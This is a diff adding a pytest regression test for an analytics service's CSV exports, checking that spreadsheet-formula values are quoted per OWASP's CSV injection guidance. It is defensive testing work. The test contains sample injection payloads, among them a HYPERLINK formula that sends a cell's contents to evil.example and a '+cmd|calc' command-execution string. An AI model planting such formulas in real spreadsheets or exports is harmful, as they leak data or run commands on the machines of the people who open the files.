@@ -6,8 +6,10 @@ from __future__ import annotations
 import csv
 import io
 from collections.abc import AsyncIterator
+from datetime import UTC, datetime
 from typing import Any
 
+import asyncpg
 import pytest
 from aiohttp import web
 from aiohttp.test_utils import TestClient, TestServer
@@ -164,3 +166,43 @@ async def test_environment_at_desk_level_and_unknown_places_are_refused(
     )
     assert response.status == 404
     assert (await response.json())["invalid_params"][0]["name"] == "floor"
+
+
+FORMULA_NAME = '=HYPERLINK("https://evil.example/?d="&A2,"Budi")'
+
+
+async def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(
+    client: tuple[Client, dict[str, str]], database_url: str
+) -> None:
+    """OWASP's CSV injection rule on the no-shows and agency-level exports: a name or an
+    agency starting with = + - @ is written with a leading quote; numbers stay numbers."""
+    conn = await asyncpg.connect(database_url)
+    try:
+        await conn.execute(
+            "UPDATE people SET name = $1, unit = '@SUM(A1)' WHERE id = 'p2'", FORMULA_NAME
+        )
+        await conn.execute("UPDATE zones SET agency = '+cmd|calc' WHERE id = 'b1-f1-a'")
+        await conn.execute(  # the zone changed hands: roll its month up again
+            "INSERT INTO analytics_dirty (zone_id, span) VALUES ('b1-f1-a', tstzrange($1, $2))",
+            datetime(2026, 11, 1, tzinfo=UTC),
+            datetime(2026, 12, 1, tzinfo=UTC),
+        )
+    finally:
+        await conn.close()
+    c, auth = client
+    shows = await c.get(
+        "/api/v1/analytics/no-shows", params={**MONTH, "format": "csv"}, headers=auth
+    )
+    rows = {r["person"]: r for r in _csv_as_json_text(await shows.text())}
+    assert rows["p2"]["name"] == "'" + FORMULA_NAME
+    assert rows["p2"]["unit"] == "'@SUM(A1)"
+    assert rows["p2"]["no_shows"] == "1"  # numbers untouched
+    query = {**MONTH, "level": "agency", "bucket": "week", "format": "csv"}
+
+    async def agencies() -> set[str]:
+        response = await c.get("/api/v1/analytics/utilisation", params=query, headers=auth)
+        return {r["place"] for r in _csv_as_json_text(await response.text())}
+
+    # the app's own refresher (every 0.2 s) may be the one that rolls the zone up again
+    places = await eventually(agencies, lambda places: len(places) > 1)
+    assert "'+cmd|calc" in places and "+cmd|calc" not in places
